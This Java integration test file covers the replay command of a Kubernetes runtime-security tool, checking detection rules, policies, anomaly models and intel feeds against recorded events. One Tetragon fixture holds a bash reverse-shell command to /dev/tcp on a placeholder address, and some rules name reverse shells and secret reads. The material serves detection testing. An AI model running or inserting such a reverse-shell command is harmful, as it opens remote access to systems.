package io.kubeguardian.cli.replay;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.kubeguardian.cli.CommandRun;
import io.kubeguardian.cli.ServiceMinutes;
import io.kubeguardian.kafka.EmbeddedKafka;
import io.kubeguardian.schema.AvroCodec;
import io.kubeguardian.schema.CaptureEntry;
import io.kubeguardian.schema.CaptureFile;
import io.kubeguardian.schema.EventBatch;
import io.kubeguardian.schema.Keys;
import io.kubeguardian.schema.PodMetadata;
import io.kubeguardian.schema.TopicSetup;
import io.kubeguardian.schema.Topics;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ReplayCommandIT {
    private static final Path PROJECT = Path.of("..").toAbsolutePath().normalize();
    private static final String POD_UID = "6d4cf56d-1111-4000-8000-000000000001";
    private static final Path CAPTURES = Path.of("demo/capture");
    private static final String SHELL = "Shell spawned by a server process";

    /** Allows one program. */
    private static final String POLICY = """
            apiVersion: kubeguardian.io/v1alpha1
            kind: RuntimePolicy
            metadata: {name: orders, namespace: shop}
            spec: {workload: {kind: Deployment, name: orders}, mode: enforce, programs: [{path: /srv/orders}]}
            """;

    @TempDir
    Path folder;

    private String rules(String name, String condition) throws Exception {
        return Files.writeString(folder.resolve(name), """
                - rule: wget
                  desc: d
                  priority: NOTICE
                  output: "%proc.cmdline"
                  condition: evt.type = execve and CONDITION
                """.replace("CONDITION", condition)).toString();
    }

    @Test
    void aCaptureIsToldWithWhatTheRulesMakeOfIt() throws Exception {
        CommandRun run = CommandRun.of("replay", "--format", "json", CAPTURES.resolve("normal.avro").toString(),
                CAPTURES.resolve("attack.avro").toString());

        JsonNode report = new ObjectMapper().readTree(run.out());
        assertThat(run.code()).isZero();
        assertThat(report.at("/evidence/pods").asInt()).isEqualTo(1);
        assertThat(report.at("/rules/byRule").path(SHELL).asInt()).isEqualTo(3);
        assertThat(report.at("/rules/alerts/0/workload").asText()).isEqualTo("shop/Deployment/orders");
    }

    @Test
    void twoSetsOfRulesAreComparedAlertByAlert() throws Exception {
        String narrow = rules("narrow.yaml", "proc.exe = wget");
        String wide = rules("wide.yaml", "proc.exe in (wget, cat)");

        CommandRun run = CommandRun.of("replay", CAPTURES.resolve("attack.avro").toString(), "--rules", wide, "--against",
                narrow);

        assertThat(run.code()).isEqualTo(1);
        assertThat(run.out()).containsPattern("wget +2 +1 +\\+1").contains("only with " + wide)
                .contains("exe /var/run/secrets").doesNotContain("only with " + narrow);
    }

    @Test
    void theSameRulesMakeNoDifference() throws Exception {
        String rules = rules("same.yaml", "proc.exe = wget");

        CommandRun run = CommandRun.of("replay", CAPTURES.resolve("attack.avro").toString(), "--rules", rules, "--against",
                rules);

        assertThat(run.code()).isZero();
        assertThat(run.out()).contains("no difference");
    }

    @Test
    void aTimeRangeOfTheTopicIsReplayedAndKept() throws Exception {
        Path kept = folder.resolve("kept.avro");
        CommandRun run;
        try (EmbeddedKafka kafka = EmbeddedKafka.start()) {
            TopicSetup.createMissing(kafka.clientProperties(), 2);
            publish(kafka);

            run = CommandRun.of("replay", "--from", "1h", "--bootstrap-servers", kafka.bootstrapServers(), "--keep",
                    kept.toString());
        }

        assertThat(run.code()).isZero();
        assertThat(run.out()).contains("28 events of 1 pod").contains(SHELL).contains("shop/Deployment/orders");
        assertThat(run.err()).contains("1 malformed record left out");
        assertThat(Evidence.of(List.of(kept), List.of(kept)).events()).isEqualTo(28);
    }

    /** Tetragon v1.4's format is that of its API's documentation (GetEventsResponse), Falco's that of its "Outputs". */
    @Test
    void jsonOfOtherSensorsIsReplayedTogether() throws Exception {
        System.setProperty("kubeguardian.home", PROJECT.toString());
        Path tetragon = Files.writeString(folder.resolve("tetragon.json"), """
                {"process_exec": {"process": %2$s, "parent": %1$s}, "node_name": "worker-1", "time": "2026-03-01T10:00:40Z"}
                no JSON at all
                {"process_exit": {"process": %2$s, "parent": %1$s}, "node_name": "worker-1", "time": "2026-03-01T10:00:41Z"}
                """.formatted(process(5, 1100, "/srv/orders", "--port 80", "procFS auid", ""),
                process(40, 1200, "/bin/bash", "-c \\\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\\\"", "execve clone",
                        ", \"parent_exec_id\": \"" + execId(5, 1100) + "\"")));
        Path falco = Files.writeString(folder.resolve("falco.json"), """
                {"hostname": "worker-1", "output": "Warning A shell", "priority": "Warning", "rule": "Terminal shell in container",
                 "source": "syscall", "time": "2026-03-01T10:00:41Z", "tags": ["T1059"], "output_fields": {
                 "container.id": "abababababab", "k8s.ns.name": "shop", "k8s.pod.name": "orders-1", "k8s.pod.uid": "%s"}}
                """.formatted(POD_UID).replace("\n", "") + "\n");
        Files.writeString(folder.resolve("pattern.yaml"), """
                title: Shell seen by two sensors
                id: two-sensors
                description: A shell under a server, and Falco says so too.
                level: critical
                correlation:
                  type: temporal_ordered
                  rules: [Reverse shell command line, Terminal shell in container]
                  group-by: [k8s.pod.uid]
                  timespan: 5m
                """);
        Path config = Files.writeString(folder.resolve("kubeguardian.yaml"),
                "ingest: {cluster: prod}\ndetection: {patterns: [\"" + folder.resolve("pattern.yaml") + "\"]}\n");

        CommandRun run = CommandRun.of("replay", "--format", "json", "--config", config.toString(), tetragon.toString(),
                falco.toString());

        assertThat(run.code()).as(run.err()).isZero();
        JsonNode report = new ObjectMapper().readTree(run.out());
        assertThat(report.at("/evidence/captures/0").asText()).isEqualTo(tetragon.toString());
        assertThat(report.at("/evidence/foreignAlerts").asInt()).isEqualTo(1);
        assertThat(report.at("/evidence/pods").asInt()).isEqualTo(1);
        assertThat(report.at("/rules/byRule").path("Reverse shell command line").asInt()).isEqualTo(1);
        assertThat(report.at("/rules/byRule").path("Terminal shell in container").asInt()).isEqualTo(1);
        assertThat(report.at("/rules/byRule").path("incident: two-sensors").asInt()).isEqualTo(1);
        assertThat(run.err()).contains("tetragon.json: 1 of 3 lines left out; line 2: not acceptable JSON");
    }

    @Test
    void modelsAndIndicatorsJudgeWhatHappened() throws Exception {
        // Given a model of a service's normal windows, a list with an address that an attack connects to, and one of another feed
        Path config = ServiceMinutes.config(folder, "intel: {feeds: [{name: known, source: \""
                + Files.writeString(folder.resolve("known.txt"), "203.0.113.8\n") + "\"}]}\n");
        Path attack = ServiceMinutes.capture(folder.resolve("attack.avro"), 3, 30, 20);
        CommandRun trained = CommandRun.of("models", "train", ServiceMinutes.capture(folder.resolve("normal.avro"), 9, 40, -1)
                .toString(), "--out", folder.resolve("models").toString(), "--config", config.toString());
        Path list = Files.writeString(folder.resolve("New list.txt"), "203.0.113.7\n10.0.0.5\n");

        CommandRun run = CommandRun.of("replay", attack.toString(), "--config", config.toString(), "--models",
                folder.resolve("models").toString(), "--intel", list.toString(), "--intel", "configured", "--format", "json");
        CommandRun table = CommandRun.of("replay", attack.toString(), "--config", config.toString(), "--models",
                folder.resolve("models/behaviour.kgmodel").toString());

        assertThat(trained.code()).as(trained.err()).isZero();
        assertThat(run.code()).as(run.err()).isZero();
        JsonNode report = new ObjectMapper().readTree(run.out());
        assertThat(report.at("/rules/byRule").path("anomaly.behaviour").asInt()).isEqualTo(1);
        assertThat(report.at("/rules/byRule").path("intel.ip").asInt()).isEqualTo(2);
        assertThat(report.at("/rules/boundsMoved/0/detail").asText())
                .contains(report.at("/models/0/digest").asText(), "score of model behaviour");
        assertThat(report.at("/intel")).extracting(feed -> feed.path("name").asText())
                .containsExactly("known", "new-list.txt");
        assertThat(run.err()).contains("new-list.txt: line 2: an address that is not public");
        assertThat(table.out()).contains("model behaviour of every workload", "anomaly.behaviour", " moved:")
                .doesNotContain("intel.ip");
    }

    @Test
    void whatCannotJudgeIsToldInALine() throws Exception {
        Files.write(folder.resolve("cut.kgmodel"), new byte[] {1, 2, 3});
        Files.write(folder.resolve("binary.txt"), new byte[] {0, 1, 2, (byte) 0xff});
        Files.createDirectory(folder.resolve("empty"));

        assertRefused("--models", "none.kgmodel", "none.kgmodel: no such file");
        assertRefused("--models", "cut.kgmodel", "cut.kgmodel: is no model that a job would take");
        assertRefused("--models", "empty", "empty: has no .kgmodel file");
        assertRefused("--policies", "none.yaml", "none.yaml: cannot be read");
        assertRefused("--policies", "empty", "empty: has no .yaml, .yml or .json file");
        assertRefused("--policies", "binary.txt", "binary.txt: ");
        Files.writeString(folder.resolve("deep.yaml"), "[".repeat(5_000));
        assertRefused("--policies", "deep.yaml", "deep.yaml: not YAML");
        Files.writeString(folder.resolve("nowhere.yaml"), POLICY);
        assertRefused("--policies", "nowhere.yaml", "nowhere.yaml: document 1: has no annotation");
        Files.writeString(folder.resolve("misspelt.yaml"), POLICY.replace("programs", "program"));
        assertRefused("--policies", "misspelt.yaml", "misspelt.yaml: document 1: ");
        assertRefused("--intel", "none.txt", "none.txt: no such file");
        assertRefused("--intel", "binary.txt", "nothing usable in " + folder.resolve("binary.txt"));
        assertRefused("--intel", "empty", "empty");
        CommandRun unset = CommandRun.of("replay", CAPTURES.resolve("attack.avro").toString(), "--intel", "configured");
        assertThat(unset.code()).isEqualTo(2);
        assertThat(unset.err()).contains("the configuration has no intel.feeds");
    }

    @Test
    void policiesOfAFolderJudgeFromTheFirstEventOn() throws Exception {
        Path policies = Files.createDirectory(folder.resolve("policies"));
        Files.writeString(policies.resolve("orders.yaml"), POLICY);
        Files.writeString(policies.resolve("README.txt"), "no policy");
        String normal = CAPTURES.resolve("normal.avro").toString(); // has the pod's name
        String attack = CAPTURES.resolve("attack.avro").toString();

        CommandRun run = CommandRun.of("replay", normal, attack, "--policies", policies.toString(), "--cluster", "demo",
                "--format", "json");
        CommandRun elsewhere = CommandRun.of("replay", normal, attack, "--policies", policies.toString(), "--cluster", "other");

        assertThat(run.code()).as(run.err()).isZero();
        JsonNode report = new ObjectMapper().readTree(run.out());
        assertThat(report.at("/policies/0/workload").asText()).isEqualTo("demo/shop/Deployment/orders");
        assertThat(report.at("/policies/0/mode").asText()).isEqualTo("enforce");
        assertThat(report.at("/rules/byRule").path("policy.exec.enforce").asInt()).isPositive();
        assertThat(elsewhere.code()).as(elsewhere.err()).isZero();
        assertThat(elsewhere.out()).contains("policy shop/orders of other/shop/Deployment/orders, enforce, sha256:")
                .doesNotContain("policy.exec");
    }

    private void assertRefused(String option, String file, String message) {
        CommandRun run = CommandRun.of("replay", CAPTURES.resolve("attack.avro").toString(), option,
                folder.resolve(file).toString());

        assertThat(run.code()).as(run.err()).isEqualTo(2);
        assertThat(run.err().lines()).singleElement().asString().contains(message);
        assertThat(run.out()).isEmpty();
    }

    @Test
    void jsonOfNoSensorIsToldInALine() throws Exception {
        System.setProperty("kubeguardian.home", PROJECT.toString());
        Path file = Files.writeString(folder.resolve("other.json"), "{\"kind\": \"Pod\"}\n{\"rule\": 1, \"priority\"\n");

        CommandRun run = CommandRun.of("replay", file.toString());

        assertThat(run.code()).isEqualTo(2);
        assertThat(run.err()).contains(file + ": neither Tetragon's JSON export nor Falco's JSON alerts");
        assertThat(run.out()).isEmpty();
    }

    private static String process(int second, int pid, String binary, String arguments, String flags, String more) {
        return """
                {"exec_id": "%s", "pid": %d, "uid": 1000, "cwd": "/srv", "binary": "%s", "arguments": "%s", "flags": "%s",
                 "start_time": "2026-03-01T10:00:%02dZ", "auid": 4294967295, "pod": {"namespace": "shop", "name": "orders-1",
                 "uid": "%s", "workload": "orders", "workload_kind": "Deployment", "container": {"id": "containerd://%s",
                 "name": "orders", "image": {"name": "docker.io/shop/orders:1.2"}}}%s}"""
                .formatted(execId(second, pid), pid, binary, arguments, flags, second, POD_UID, "ab".repeat(32), more)
                .replace("\n", "");
    }

    private static String execId(int second, int pid) {
        return Base64.getEncoder()
                .encodeToString(("worker-1:" + second + "000000000:" + pid).getBytes(StandardCharsets.UTF_8));
    }

    /** The attack with the pod's metadata, a record of an hour and a half ago, and one that is no batch. */
    private static void publish(EmbeddedKafka kafka) throws Exception {
        Map<String, Object> client = new HashMap<>(kafka.clientProperties());
        AvroCodec<EventBatch> batches = AvroCodec.of(EventBatch.class);
        long now = System.currentTimeMillis();
        try (KafkaProducer<byte[], byte[]> producer =
                new KafkaProducer<>(client, new ByteArraySerializer(), new ByteArraySerializer())) {
            try (CaptureFile.Reader normal = new CaptureFile.Reader(CAPTURES.resolve("normal.avro"))) {
                for (CaptureEntry entry : normal) {
                    if (entry.getRecord() instanceof PodMetadata pod) {
                        producer.send(new ProducerRecord<>(Topics.PODS, Keys.bytes(pod.getUid()),
                                AvroCodec.of(PodMetadata.class).encode(pod))).get();
                    } else {
                        EventBatch batch = (EventBatch) entry.getRecord();
                        producer.send(new ProducerRecord<>(Topics.EVENTS, 0, now - 5_400_000,
                                Keys.bytes(Keys.events(batch)), batches.encode(batch))).get();
                    }
                }
            }
            try (CaptureFile.Reader attack = new CaptureFile.Reader(CAPTURES.resolve("attack.avro"))) {
                for (CaptureEntry entry : attack) {
                    EventBatch batch = (EventBatch) entry.getRecord();
                    producer.send(new ProducerRecord<>(Topics.EVENTS, Keys.bytes(Keys.events(batch)),
                            batches.encode(batch))).get();
                }
            }
            producer.send(new ProducerRecord<>(Topics.EVENTS, Keys.bytes("x"), "junk".getBytes(StandardCharsets.UTF_8)))
                    .get();
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "replay | replay needs files with events",
        "replay nope.avro | nope.avro: no such file",
        "replay pom.xml | pom.xml: not a capture file",
        "replay --from yesterday | --from is yesterday; expected a time",
        "replay --from 1h --to 2h | is not before --to 2h",
        "replay --from 1h --bootstrap-servers localhost:1 | localhost:1 does not answer",
        "replay demo/capture/attack.avro --rules nope.yaml | nope.yaml",
        "replay demo/capture/attack.avro --from 1h | replay needs files with events",
    })
    void wrongUseIsToldInALine(String command, String message) {
        CommandRun run = CommandRun.of(command.split(" "));

        assertThat(run.code()).isEqualTo(2);
        assertThat(run.err().lines().filter(line -> line.contains(message))).hasSize(1);
        assertThat(run.out()).isEmpty();
    }
}
